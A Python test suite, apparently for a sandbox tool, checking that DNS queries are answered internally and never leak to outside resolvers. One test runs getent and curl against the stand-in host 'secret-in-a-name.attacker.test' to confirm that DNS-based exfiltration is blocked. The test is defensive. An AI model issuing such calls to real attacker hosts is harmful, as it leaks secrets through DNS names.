#!/usr/bin/env python3
"""C80: whatever the host's resolv.conf says, names are answered inside, at once, over UDP and TCP; none is asked outside."""
import os

import dnsserver
import exeat
import netns
import tap
import work

netns.enter(addresses=["10.9.0.1/24"])

ASK = r'''
import socket, struct, sys, time
def ask(name, kind, tcp=False, edns=False, server="127.0.0.1"):
    q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 1 if edns else 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0" + struct.pack(">2H", kind, 1)
    if edns:
        q += b"\0\0\x29\x10\0\0\0\x80\0\0\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect((server, 53))
    s.send(struct.pack(">H", len(q)) + q if tcp else q)
    a = s.recv(2000)
    if tcp:
        a = a[2:]
    return "rcode %d answers %d" % (a[3] & 15, struct.unpack(">H", a[6:8])[0])
for kind, label in ((1, "A"), (28, "AAAA"), (65, "HTTPS"), (33, "SRV"), (16, "TXT"), (15, "MX"), (255, "ANY")):
    for tcp in (False, True):
        for edns in (False, True):
            began = time.monotonic()
            print("%s %s %s: %s" % (label, tcp, edns, ask("a.test", kind, tcp, edns)), time.monotonic() - began < 0.5)
print("bad:", ask("a b.test", 1))
for server in ("127.0.0.53", "127.0.0.11", "10.96.0.10", "8.8.8.8"):
    print(server + ":", ask("a.test", 1, server=server))
'''


@tap.test
def every_question_has_its_answer(_t):
    r = exeat.run(None, ["python3", "-c", ASK])
    got = dict(line.split(": ", 1) for line in r.out.splitlines())
    tap.equal(len(got), 28 + 5)
    for label, text in got.items():
        if label == "bad":
            tap.equal(text, "rcode 5 answers 0")
        elif label.split()[0] in ("A", "AAAA"):
            tap.equal(text, "rcode 0 answers 1 True", label)
        elif " " in label:
            tap.equal(text, "rcode 0 answers 0 True", label)
        else:
            tap.equal(text, "rcode 0 answers 1", label)


@tap.test
def no_question_is_asked_outside_for_what_is_denied(t):
    if not work.is_root():
        tap.skip("needs root to prepare")
    server = t.use(dnsserver.DnsServer({"secret-in-a-name.attacker.test": ["192.0.2.1"]}, address="10.9.0.1", port=53))
    folder = with_resolv("nameserver 10.9.0.1\n")
    r = exeat.run(None, [], user="root", program_args=mounted(folder, command=(
        "getent hosts secret-in-a-name.attacker.test; curl -sS -m 5 http://secret-in-a-name.attacker.test/; true")))
    tap.contains(r.out, "secret-in-a-name.attacker.test")
    tap.equal([q for q in server.queries if "attacker" in str(q)], [])


def with_resolv(text=None, link=None):
    """A copy of /etc with this resolv.conf."""
    folder = work.folder("etc.")
    work.sh("cp", "-a", "/etc/.", folder)
    path = os.path.join(folder, "resolv.conf")
    if os.path.lexists(path):
        os.unlink(path)
    if link:
        os.symlink(link, path)
    elif text is not None:
        work.write(path, text)
    return folder


def mounted(folder, command):
    state = work.folder("state.", mode=0o700)
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", 'mount --bind "$1" /etc && shift && exec "$@"', "sh", folder,
            exeat.program(), "run", "--state", state, "--log", state + "/log", "--", "sh", "-c", command]


@tap.test(timeout=120)
def any_resolv_conf_of_the_host_will_do(t):
    if not work.is_root():
        tap.skip("needs root to prepare")
    stub = work.write(os.path.join(work.folder(), "stub"), "nameserver 127.0.0.53\nsearch corp.test\noptions ndots:5\n")
    for kind in ({"text": "nameserver 127.0.0.53\noptions edns0 trust-ad\n"}, {"text": "nameserver ::1\n"}, {"text": "nameserver 127.0.0.11\n"},
                 {"link": "/no/such/file"}, {"link": stub},
                 {"text": "nameserver 192.0.2.1\nnameserver 192.0.2.2\nnameserver 192.0.2.3\nsearch a.test\n"}):
        folder = with_resolv(**kind)
        r = exeat.run(None, [], user="root", program_args=mounted(folder, (
            "getent ahostsv4 a.test; s=$(date +%s%N); getent ahostsv4 b.test >/dev/null; e=$(date +%s%N); echo ms $(( (e - s) / 1000000 ))")))
        tap.ok(r.out.startswith("198.19."), "%r: %s" % (kind, r))
        tap.ok(int(r.out.split()[-1]) < 500, r.out)


tap.main()
